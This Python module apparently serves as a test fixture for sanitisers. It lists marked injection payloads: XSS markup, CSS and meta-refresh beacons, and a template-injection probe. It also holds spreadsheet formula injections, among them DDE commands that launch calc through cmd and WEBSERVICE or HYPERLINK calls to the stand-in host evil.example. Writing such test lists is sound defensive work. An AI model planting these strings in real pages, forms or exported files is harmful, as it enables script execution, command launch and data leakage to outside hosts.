"""Texts that would run, load or compute something wherever they are taken for more than text; all carry a mark."""

MARK = "zq7"
HOST = "evil.example"

MARKUP = (
    f"<script>alert('{MARK}')</script>",
    f"\"><img src=x onerror=alert('{MARK}')>",
    f"'><svg onload=alert('{MARK}')>",
    f"</script><script src=//{HOST}/{MARK}.js></script>",
    f"</title></style></textarea></svg><iframe src=javascript:alert('{MARK}')></iframe>",
    f"<a href=\"javascript:alert('{MARK}')\">{MARK}</a>",
    f"javascript:alert('{MARK}')//",
    f"\" onfocus=alert('{MARK}') autofocus tabindex=1 x=\"",
    f"<!--{MARK}--><![CDATA[<img src=x onerror=alert('{MARK}')>]]>",
    f"&lt;img src=x onerror=alert('{MARK}')&gt;&#60;script&#62;{MARK}",
    f"<img src=//{HOST}/{MARK}.png>",
    f"<style>*{{background:url(//{HOST}/{MARK})}}</style>",
    f'"}}*{{background:url(//{HOST}/{MARK})}}',
    f"<meta http-equiv=refresh content='0;url=//{HOST}/{MARK}'><base href=//{HOST}/>",
    f"{{{{7*7}}}}${{7*7}}%{{x}}{{0}}{{{MARK}.__class__}}",
    f'<math href="javascript:alert(1)"><form action=//{HOST}/{MARK}><button formaction=javascript:alert(1)>',
    f"\u202e<details open ontoggle=alert('{MARK}')>\x01\x7f",
)
FORMULAS = (
    f'=HYPERLINK("http://{HOST}/{MARK}","{MARK}")',
    f"=cmd|' /C calc'!{MARK}",
    f'=DDE("cmd";"/C calc";"{MARK}")',
    f'=WEBSERVICE("http://{HOST}/{MARK}")',
    f"+{MARK}+cmd|' /C calc'!A0",
    f"-{MARK}+cmd|' /C calc'!A0",
    f"@SUM({MARK})",
    f"\t={MARK}",
    f"\r={MARK}",
    f"\n={MARK}",
    f"\r\n+{MARK}",
    f" ={MARK}",
    f"\u00a0={MARK}",
    f"\u200b={MARK}",
    f"\ufeff={MARK}",
    f"＝{MARK}",  # noqa: RUF001  full-width signs are what is tried
    f"＋{MARK}",  # noqa: RUF001
    f"－{MARK}",  # noqa: RUF001
    f"＠{MARK}",  # noqa: RUF001
    f"{MARK};=1+1",
    f"{MARK},=1+1",
    f'{MARK}",=1+1,"',
    f"{MARK}\t@SUM(1)",
    f'"={MARK}',
    f"'={MARK}",
    f'{{ HYPERLINK "http://{HOST}/{MARK}" }}',
    f'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc {MARK}"',
    f"http://{HOST}/{MARK}",
    f"\\\\{HOST}\\{MARK}",
)
PAYLOADS = MARKUP + FORMULAS
